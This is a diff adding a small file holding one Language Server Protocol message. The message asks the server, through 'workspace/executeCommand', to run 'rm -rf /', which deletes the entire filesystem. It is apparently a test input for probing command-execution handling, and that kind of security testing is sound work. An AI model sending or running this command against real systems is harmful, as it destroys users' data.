@@ -1,0 +1,3 @@
+Content-Length: 121
+
+{"jsonrpc": "2.0", "id": 1, "method": "workspace/executeCommand", "params": {"command": "rm", "arguments": ["-rf", "/"]}}
